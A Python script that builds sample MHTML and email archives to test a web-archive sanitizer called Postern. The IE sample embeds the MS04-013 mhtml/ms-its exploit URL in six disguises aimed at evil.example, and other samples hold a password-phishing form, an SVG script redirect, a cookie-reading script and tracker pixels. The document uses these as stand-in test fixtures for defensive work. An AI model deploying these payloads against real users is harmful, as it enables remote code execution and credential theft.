#!/usr/bin/env python3
"""
Writes samples/: four archives as four kinds of producers write them, made of nothing but this script. Deterministic: run twice, the
same bytes (tests/cli/test_samples.py holds it true). The attack in the first one is a demonstration: its hosts end in .example or
.test, which nobody owns, and the files it names exist nowhere.

  tools/make_samples.py [FOLDER]      default: samples/ of the repository
"""
import base64
import pathlib
import sys
import textwrap

import sample_art as art

ROOT = pathlib.Path(__file__).resolve().parent.parent


def crlf(text):
    return text.replace("\r\n", "\n").replace("\n", "\r\n")


def b64(data):
    return "\r\n".join(textwrap.wrap(base64.b64encode(data).decode(), 76)) + "\r\n"


def qp(data, keep_8bit=False):
    """Quoted-printable in lines of at most 76; keep_8bit leaves bytes above 127 raw, as Word does."""
    out = bytearray()
    for line in data.split(b"\n"):
        line = line.rstrip(b"\r")
        column = 0
        for i, c in enumerate(line):
            raw = 33 <= c <= 126 and c != 61 or c in (9, 32) and i + 1 < len(line) or keep_8bit and c >= 128
            piece = bytes([c]) if raw else b"=%02X" % c
            if column + len(piece) > 75:
                out += b"=\r\n"
                column = 0
            out += piece
            column += len(piece)
        out += b"\r\n"
    return bytes(out[:-2])


def part(boundary, headers, body):
    head = "".join(f"{name}: {value}\r\n" for name, value in headers)
    return f"--{boundary}\r\n{head}\r\n".encode() + (body.encode() if isinstance(body, str) else body) + b"\r\n"


# ---- 1: Internet Explorer, with the attack of MS04-013 in five disguises ----

IE_PAGE = """<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.0 Transitional//EN">
<!-- saved from url=(0033)http://www.fort.example/news.html -->
<HTML><HEAD><TITLE>Fort News: five keys for one small door</TITLE>
<META http-equiv=Content-Type content="text/html; charset=windows-1252">
<META http-equiv=refresh content="4; url=ms-its:mhtml:file://C:\\nosuch.mht!http://evil.example/door.chm::/door.htm">
<LINK href="http://www.fort.example/style.css" type=text/css rel=stylesheet>
<STYLE>.strip { background: #46547e url(mk:@MSITStore:mhtml:file://C:\\\\nosuch.mht!http://evil.example/door.chm::/strip.gif) }</STYLE>
<META content="MSHTML 6.00.2800.1106" name=GENERATOR></HEAD>
<BODY bgColor=#f4efe6 onload="window.open('http://evil.example/popup')">
<TABLE class=page cellSpacing=0 cellPadding=0 width=640 align=center border=0><TBODY>
<TR><TD class=strip><IMG height=240 alt="A wall with one small lit door" src="http://www.fort.example/wall.png" width=640></TD></TR>
<TR><TD class=text>
<H1><IMG height=32 alt=F src="http://www.fort.example/f.png" width=32 align=absMiddle> Five keys for one small door</H1>
<P>In spring 2004 a page like this one could run a program on the reader\x92s computer. It never touched the guarded
gates. It asked for a page <I>inside an archive that does not exist</I>, and the software, finding nothing, helpfully opened
what stood behind the exclamation mark\x97as if it came from the computer itself.</P>
<P>This archive carries that request five times, each in another dress. Every one is harmless here: the hosts end in
<TT>.example</TT> and <TT>.test</TT>, which nobody can own.</P>
<OL>
<LI><B>Plain.</B> An object whose data is <TT>mhtml:file://C:\\nosuch.mht!\x85</TT>
<OBJECT data="mhtml:file://C:\\nosuch.mht!http://evil.example/door.htm" type=text/x-scriptlet width=1 height=1></OBJECT>
<LI><B>Inside a help file.</B> A frame that asks <TT>its:</TT> for a page of a compiled help file.
<IFRAME src="its:mhtml:file://C:\\nosuch.mht!http://evil.example/door.chm::/door.htm" width=1 height=1 frameBorder=0></IFRAME>
<LI><B>By its long name.</B> <TT>mk:@MSITStore:</TT> hidden in a background picture of the style sheet above.
<LI><B>Letters as numbers.</B> The same address with its letters written as character references, and <TT>x-usc:</TT> for spice.
<IMG height=1 src="&#109;&#104;&#116;&#109;&#108;&#58;mid:0@nowhere.test&#33;x-usc&#58;http://evil.example/door.gif" width=1>
<LI><B>Without a click.</B> A refresh to <TT>ms-its:</TT> after four seconds.
</OL>
<SCRIPT language=JScript>
// and a sixth that only looks different: put together when it runs
document.write('<iframe src="m' + 'html:file://C:/nosuch.mht!http://evil.example/x"></iframe>');
</SCRIPT>
<P>If you read this, Postern did what it is for: the text and the pictures are here, and none of the five keys turned. See the
<A href="http://www.fort.example/archive.html">older news</A>, or the <A
href="mhtml:file://C:\\nosuch.mht!http://evil.example/link.htm">sixth key</A>, a link that leads nowhere.</P>
<P class=foot>\xa9 2004 The Fort News \x96 printed on recycled parchment</P>
</TD></TR></TBODY></TABLE></BODY></HTML>
"""

IE_STYLE = """.page { background: #fffdf8; border: 1px solid #b9a98c }
.text { padding: 12px 28px; font: 15px/1.5 Georgia, "Times New Roman", serif; color: #2b2a28 }
H1 { font: bold 24px Georgia, serif; color: #46547e }
LI { margin-bottom: 6px }
TT { color: #8a2f1f }
.foot { color: #8c8270; font-size: 12px; border-top: 1px solid #d9cdb8; padding-top: 6px }
"""


def ie_ms04_013():
    boundary = "----=_NextPart_000_0000_01C42E3A.5D9C1A70"
    base = "http://www.fort.example/"
    head = crlf(f"""From: <Saved by Microsoft Internet Explorer 5>
Subject: Fort News: five keys for one small door
Date: Thu, 29 Apr 2004 18:40:00 +0200
MIME-Version: 1.0
Content-Type: multipart/related;
\tboundary="{boundary}";
\ttype="text/html"
X-MimeOLE: Produced By Microsoft MimeOLE V6.00.2800.1106

This is a multi-part message in MIME format.

""").encode()
    text = ("Content-Transfer-Encoding", "quoted-printable")
    picture = ("Content-Transfer-Encoding", "base64")
    page = qp(crlf(IE_PAGE).encode("latin-1"))
    return (head
            + part(boundary, [("Content-Type", 'text/html;\r\n\tcharset="Windows-1252"'), text,
                              ("Content-Location", base + "news.html")], page)
            + part(boundary, [("Content-Type", "image/png"), picture, ("Content-Location", base + "wall.png")],
                   b64(art.wall(640, 240)))
            + part(boundary, [("Content-Type", "image/png"), picture, ("Content-Location", base + "f.png")],
                   b64(art.badge(32, (70, 84, 126), art.LETTERS["F"])))
            + part(boundary, [("Content-Type", 'text/css;\r\n\tcharset="iso-8859-1"'), text,
                              ("Content-Location", base + "style.css")], qp(crlf(IE_STYLE).encode()))
            + f"--{boundary}--\r\n".encode())


# ---- 2: Chromium: frames, shadow DOM, a font, SVG, srcset ----

BLINK_PAGE = """<!DOCTYPE html><html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8">
<link rel="stylesheet" type="text/css" href="cid:css-7d0c2f4e-1111-4a5b-9c3d-000000000001@mhtml.blink">
<title>Postern — the small guarded door</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<link rel="icon" href="https://postern.example/badge.png">
<link rel="preconnect" href="https://tracker.example/">
</head><body>
<header><img src="https://postern.example/badge.png" width="56" height="56" alt="Postern"><h1>The small guarded door</h1></header>
<main>
<figure><img srcset="https://postern.example/wall-480.png 480w, https://postern.example/wall-960.png 960w" sizes="(max-width: 700px) 100vw, 640px"
 src="https://postern.example/wall-480.png" alt="A fort at dusk, one small door is lit"><figcaption>One <code>srcset</code>, two
 candidates; the archive holds the smaller one.</figcaption></figure>
<p>Postern opens web archives and HTML mail <strong>without letting anything in</strong>: the words, the pictures, the fonts and the
styles stay, and whatever could run, load or lead away does not.</p>
<div class="cards">
 <fort-card><template shadowmode="open"><style>:host{display:block}.card{border:1px solid #cfd8e6;border-radius:10px;padding:14px 18px;
background:linear-gradient(#fff,#f3f6fb);box-shadow:0 1px 3px #0002}h2{margin:0 0 6px;font:600 17px system-ui,sans-serif;color:#2d4f86}
::slotted(p){margin:0;color:#444}</style><div class="card"><h2>Shadow tree</h2><slot></slot></div></template><p>This card lives in a shadow
root, with styles of its own.</p></fort-card>
 <fort-card><template shadowmode="open"><style>:host{display:block}.card{border:1px solid #d9e6cf;border-radius:10px;padding:14px 18px;
background:linear-gradient(#fff,#f5fbf1)}h2{margin:0 0 6px;font:600 17px system-ui,sans-serif;color:#3f7a2d}</style><div class="card"><h2>SVG
picture</h2><slot></slot></div></template><img src="https://postern.example/door.svg" width="120" height="120" alt="A door, drawn"></fort-card>
</div>
<svg viewBox="0 0 400 60" width="400" height="60" role="img" aria-label="Four rooms in a row"><g fill="none" stroke="#2d4f86" stroke-width="2">
<rect x="4" y="10" width="80" height="40" rx="6"></rect><rect x="108" y="10" width="80" height="40" rx="6"></rect>
<rect x="212" y="10" width="80" height="40" rx="6"></rect><rect x="316" y="10" width="80" height="40" rx="6"></rect>
<path d="M84 30h24m80 0h24m80 0h24"></path></g><g font-family="sans-serif" font-size="14" text-anchor="middle" fill="#2d4f86">
<text x="44" y="35">mime</text><text x="148" y="35">mhtml</text><text x="252" y="35">page</text><text x="356" y="35">you</text></g></svg>
<h2>Frames</h2>
<div class="frames"><iframe src="cid:frame-0A1B2C3D4E5F@mhtml.blink" width="300" height="130" title="A frame"></iframe>
<iframe src="https://ads.example/banner.html" width="300" height="130" title="A frame the archive does not hold"></iframe></div>
<img src="https://tracker.example/pixel.gif?id=4711" width="1" height="1" alt="">
<p>More at <a href="https://postern.example/docs/">postern.example/docs</a>.</p>
</main>
</body></html>
"""

BLINK_STYLE = """@charset "utf-8";
@font-face { font-family: "Postern Dots"; src: url("https://postern.example/dots.ttf") format("truetype"); }
body { margin: 0; font: 16px/1.55 system-ui, sans-serif; color: rgb(34, 34, 34); background: rgb(250, 250, 252); }
header { display: flex; align-items: center; gap: 16px; padding: 16px 24px; background: rgb(30, 42, 74); color: white; }
h1 { margin: 0; font: 28px "Postern Dots", monospace; letter-spacing: 1px; }
main { max-width: 660px; margin: 0 auto; padding: 20px; }
figure { margin: 0 0 16px; }
figure img { width: 100%; border-radius: 10px; }
figcaption { color: rgb(110, 110, 120); font-size: 13px; }
.cards { display: grid; grid-template-columns: 1fr 1fr; gap: 14px; margin: 16px 0; }
.frames iframe { border: 1px solid rgb(200, 206, 218); border-radius: 8px; }
"""

BLINK_FRAME = """<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><style>body{font:15px
sans-serif;margin:12px;background:#fff8e6}b{color:#b35c00}</style></head><body><b>A frame.</b> It has its own document inside the archive, its
own styles, and the same guards.<form action="https://evil.example/login"><input name="password" placeholder="password"></form></body></html>
"""

DOOR_SVG = """<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 120 120"><defs><linearGradient id="g" x1="0" y1="0" x2="0" y2="1">
<stop offset="0" stop-color="#ffd678"/><stop offset="1" stop-color="#d68234"/></linearGradient></defs>
<rect width="120" height="120" rx="14" fill="#7c706c"/><path d="M38 112V56a22 22 0 0 1 44 0v56z" fill="url(#g)"/>
<circle cx="72" cy="84" r="3.4" fill="#5b3412"/><script>parent.location = "https://evil.example/"</script></svg>
"""


def blink_page():
    boundary = "----MultipartBoundary--pOsTeRnSaMpLe0000000000000000000000000042----"
    base = "https://postern.example/"
    head = crlf(f"""From: <Saved by Blink>
Snapshot-Content-Location: {base}
Subject: =?utf-8?Q?Postern=20=E2=80=94=20the=20small=20guarded=20door?=
Date: Sun, 1 Jun 2025 12:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/related;
\ttype="text/html";
\tboundary="{boundary}"


""").encode()

    def text(kind, location, body, more=()):
        return part(boundary, [("Content-Type", kind), *more, ("Content-Transfer-Encoding", "quoted-printable"),
                               ("Content-Location", location)], qp(crlf(body).encode()))

    def binary(kind, location, data):
        return part(boundary, [("Content-Type", kind), ("Content-Transfer-Encoding", "base64"), ("Content-Location", location)],
                    b64(data))

    return (head
            + text("text/html", base, BLINK_PAGE, [("Content-ID", "<frame-00112233445566778899AABBCCDDEEFF@mhtml.blink>")])
            + text("text/css", "cid:css-7d0c2f4e-1111-4a5b-9c3d-000000000001@mhtml.blink", BLINK_STYLE)
            + binary("image/png", base + "badge.png", art.badge(112, (40, 120, 90), art.LETTERS["P"]))
            + binary("image/png", base + "wall-480.png", art.wall(480, 240))
            + binary("font/ttf", base + "dots.ttf", art.font("Postern Dots"))
            + text("image/svg+xml", base + "door.svg", DOOR_SVG)
            + text("text/html", base + "frame.html", BLINK_FRAME, [("Content-ID", "<frame-0A1B2C3D4E5F@mhtml.blink>")])
            + f"--{boundary}--\r\n".encode())


# ---- 3: a Japanese HTML mail ----

JAPANESE_HTML = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-2022-jp"></head>
<body style="font-family: 'Hiragino Sans', 'Noto Sans CJK JP', sans-serif; color: #223; line-height: 1.8">
<div style="display:none; font-size:0">この行は見えません。プレビュー用の隠し文字です。</div>
<table width="560" cellpadding="0" cellspacing="0" style="border: 1px solid #d8c8b0"><tr><td>
<img src="cid:nami@umi.example" width="560" height="220" alt="波と朝日の絵"></td></tr>
<tr><td style="padding: 18px 26px; background: #fffdf8">
<h2 style="color:#1c3a6e; margin-top: 0">海の家、夏のご案内</h2>
<p>山田様</p>
<p>いつもお世話になっております。海の家の佐藤です。<br>今年も七月一日から営業を始めます。料金は次のとおりです。</p>
<table border="1" cellpadding="6" cellspacing="0" style="border-collapse: collapse">
<tr style="background:#e8eef8"><th>部屋</th><th>平日</th><th>土曜日</th></tr>
<tr><td>松の間</td><td align="right">8,000円</td><td align="right">12,000円</td></tr>
<tr><td>竹の間</td><td align="right">6,500円</td><td align="right">9,500円</td></tr>
<tr><td>梅の間</td><td align="right">5,000円</td><td align="right">7,000円</td></tr></table>
<p>くわしくは添付の表をご覧ください。ご予約は <a href="https://umi.example/yoyaku">こちら</a> から。<br>
<a href="http://evil.example/login">https://bank.example/</a> のようなリンクにはご注意ください。</p>
<p style="color:#777">佐藤 花子<br>海の家 umi.example</p>
</td></tr></table>
<img src="https://tracker.example/open.gif?u=yamada" width="1" height="1"><script>alert(document.cookie)</script>
</body></html>
"""

JAPANESE_TEXT = """山田様

いつもお世話になっております。海の家の佐藤です。
今年も七月一日から営業を始めます。料金は添付の表をご覧ください。

ご予約: https://umi.example/yoyaku

--\x20
佐藤 花子
海の家 umi.example
"""

PRICES = "部屋,平日,土曜日\r\n松の間,8000,12000\r\n竹の間,6500,9500\r\n梅の間,5000,7000\r\n"


def word(text):
    return "=?ISO-2022-JP?B?" + base64.b64encode(text.encode("iso-2022-jp")).decode() + "?="


def japanese_mail():
    outer, related, alternative = "=_mixed_0001", "=_related_0002", "=_alt_0003"
    head = crlf(f"""Return-Path: <sato@umi.example>
Received: from mail.umi.example (mail.umi.example [192.0.2.25])
\tby mx.yama.example with ESMTP id 4F00B4R; Mon, 2 Jun 2025 09:12:44 +0900
Date: Mon, 2 Jun 2025 09:12:40 +0900
From: {word("佐藤 花子")} <sato@umi.example>
To: {word("山田 太郎")} <yamada@yama.example>
Subject: {word("海の家、夏のご案内")}
 {word("（料金表つき）")}
Message-ID: <20250602001240.0001@umi.example>
X-Mailer: Umi Mailer 3.1
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="{outer}"

""").encode()
    jis = [("Content-Transfer-Encoding", "7bit")]
    inner = (part(alternative, [("Content-Type", "text/plain; charset=ISO-2022-JP; format=flowed"), *jis],
                  crlf(JAPANESE_TEXT).encode("iso-2022-jp"))
             + part(alternative, [("Content-Type", "text/html; charset=ISO-2022-JP"), *jis],
                    crlf(JAPANESE_HTML).encode("iso-2022-jp"))
             + f"--{alternative}--\r\n".encode())
    middle = (part(related, [("Content-Type", f'multipart/alternative; boundary="{alternative}"')], inner)
              + part(related, [("Content-Type", "image/png; name=nami.png"), ("Content-Transfer-Encoding", "base64"),
                               ("Content-ID", "<nami@umi.example>"), ("Content-Disposition", "inline; filename=nami.png")],
                     b64(art.wave(560, 220)))
              + f"--{related}--\r\n".encode())
    encoded = "%E6%96%99%E9%87%91%E8%A1%A8"  # 料金表
    return (head
            + part(outer, [("Content-Type", f'multipart/related; boundary="{related}"')], middle)
            + part(outer, [("Content-Type", "text/csv; charset=Shift_JIS"), ("Content-Transfer-Encoding", "base64"),
                           ("Content-Disposition", f"attachment;\r\n filename*=UTF-8''{encoded}.csv")],
                   b64(PRICES.encode("shift_jis")))
            + part(outer, [("Content-Type", f'image/png; name="{word("混雑.png")}"'), ("Content-Transfer-Encoding", "base64"),
                           ("Content-Disposition", f'attachment; filename="{word("混雑.png")}"')],
                   b64(art.bars(360, 160, [.3, .5, .45, .7, .9, .8, .35])))
            + f"--{outer}--\r\n".encode())


# ---- 4: Word, with raw 8-bit bytes in quoted-printable ----

WORD_PAGE = """<html xmlns:v=3D"urn:schemas-microsoft-com:vml"
xmlns:o=3D"urn:schemas-microsoft-com:office:office"
xmlns:w=3D"urn:schemas-microsoft-com:office:word"
xmlns=3D"http://www.w3.org/TR/REC-html40">

<head>
<meta http-equiv=3DContent-Type content=3D"text/html; charset=3Dwindows-1251">
<meta name=3DProgId content=3DWord.Document>
<meta name=3DGenerator content=3D"Microsoft Word 11">
<link rel=3DFile-List href=3D"otchet.files/filelist.xml">
<title>Отчёт о калитке</title>
<!--[if gte mso 9]><xml>
 <o:DocumentProperties><o:Author>Смотритель</o:Author><o:Pages>1</o:Pages></o:DocumentProperties>
</xml><![endif]-->
<style>
<!--
 p.MsoNormal, li.MsoNormal {mso-style-parent:""; margin:0cm; margin-bottom:6.0pt; font-size:12.0pt; font-family:"Times New=
 Roman";}
 h1 {mso-style-next:Normal; margin-bottom:6.0pt; font-size:18.0pt; font-family:Arial; color:#1F3864;}
 table.MsoTableGrid {border-collapse:collapse;}
 table.MsoTableGrid td {border:solid windowtext 1.0pt; padding:0cm 5.4pt 0cm 5.4pt;}
@page Section1 {size:595.3pt 841.9pt; margin:2.0cm 42.5pt 2.0cm 3.0cm;}
div.Section1 {page:Section1; width:16.0cm;}
-->
</style>
</head>

<body lang=3DRU style=3D'tab-interval:35.4pt'>
<div class=3DSection1>

<h1>Отчёт о калитке</h1>

<p class=3DMsoNormal>Калитка =96 маленькая дверь в стене крепости. Через неё проходят свои,
и только по одному. За прошедший год смотритель записал:</p>

<table class=3DMsoTableGrid border=3D1 cellspacing=3D0 cellpadding=3D0>
 <tr><td width=3D200><p class=3DMsoNormal><b>Месяц</b></p></td><td width=3D120><p class=3DMsoNormal
  align=3Dright><b>Прошло</b></p></td><td width=3D120><p class=3DMsoNormal align=3Dright><b>Не пущено</b></p></td></tr>
 <tr><td><p class=3DMsoNormal>Январь</p></td><td><p class=3DMsoNormal align=3Dright>312</p></td><td><p class=3DMsoNormal
  align=3Dright>7</p></td></tr>
 <tr><td><p class=3DMsoNormal>Февраль</p></td><td><p class=3DMsoNormal align=3Dright>287</p></td><td><p class=3DMsoNormal
  align=3Dright>5</p></td></tr>
 <tr><td><p class=3DMsoNormal>Март</p></td><td><p class=3DMsoNormal align=3Dright>401</p></td><td><p class=3DMsoNormal
  align=3Dright>19</p></td></tr>
</table>

<p class=3DMsoNormal><o:p>&nbsp;</o:p></p>

<p class=3DMsoNormal><!--[if gte vml 1]><v:shape id=3D"_x0000_i1025" style=3D'width:270pt;height:120pt'>
 <v:imagedata src=3D"otchet.files/image001.png" o:title=3D"bars"/></v:shape><![endif]--><![if !vml]><img width=3D360
height=3D160 src=3D"otchet.files/image002.png" alt=3D"Столбики по месяцам" v:shapes=3D"_x0000_i1025"><![endif]></p>

<p class=3DMsoNormal style=3D'margin-left:36.0pt;text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span
style=3D'mso-list:Ignore'>1.<span style=3D'font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp; </span></span><![en=
dif]>Петли смазаны.</p>
<p class=3DMsoNormal style=3D'margin-left:36.0pt;text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span
style=3D'mso-list:Ignore'>2.<span style=3D'font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp; </span></span><![en=
dif]>Замок заменён, ключи =96 у смотрителя.</p>

<p class=3DMsoNormal>=ABНикого лишнего=BB, =96 так записано в книге.</p>

</div>
</body>
</html>
"""

FILE_LIST = """<xml xmlns:o="urn:schemas-microsoft-com:office:office">
 <o:MainFile HRef="../otchet.htm"/>
 <o:File HRef="image001.png"/>
 <o:File HRef="image002.png"/>
 <o:File HRef="filelist.xml"/>
</xml>
"""


def word_page():
    boundary = "----=_NextPart_01C6A1B2.C3D4E5F0"
    base = "file:///C:/8A41F2C0/otchet.htm"
    folder = "file:///C:/8A41F2C0/otchet.files/"
    head = crlf(f"""MIME-Version: 1.0
Content-Type: multipart/related; boundary="{boundary}"

""").encode()
    preamble = crlf("Этот документ - веб-страница в одном файле (single file web page). Its readers show the parts below.\n\n").encode(
        "cp1251")
    picture = art.bars(360, 160, [.62, .57, .80])
    return (head + preamble
            + part(boundary, [("Content-Location", base), ("Content-Transfer-Encoding", "quoted-printable"),
                              ("Content-Type", 'text/html; charset="windows-1251"')], crlf(WORD_PAGE).encode("cp1251"))
            + part(boundary, [("Content-Location", folder + "image001.png"), ("Content-Transfer-Encoding", "base64"),
                              ("Content-Type", "image/png")], b64(picture))
            + part(boundary, [("Content-Location", folder + "image002.png"), ("Content-Transfer-Encoding", "base64"),
                              ("Content-Type", "image/png")], b64(picture))
            + part(boundary, [("Content-Location", folder + "filelist.xml"), ("Content-Transfer-Encoding", "quoted-printable"),
                              ("Content-Type", 'text/xml; charset="utf-8"')], qp(crlf(FILE_LIST).encode()))
            + f"--{boundary}--\r\n".encode())


SAMPLES = {
    "ie-ms04-013.mht": ie_ms04_013,
    "blink-page.mhtml": blink_page,
    "japanese-mail.eml": japanese_mail,
    "word-page.mht": word_page,
}


def main():
    folder = pathlib.Path(sys.argv[1]) if len(sys.argv) > 1 else ROOT / "samples"
    folder.mkdir(exist_ok=True)
    for name, make in SAMPLES.items():
        (folder / name).write_bytes(make())


if __name__ == "__main__":
    main()
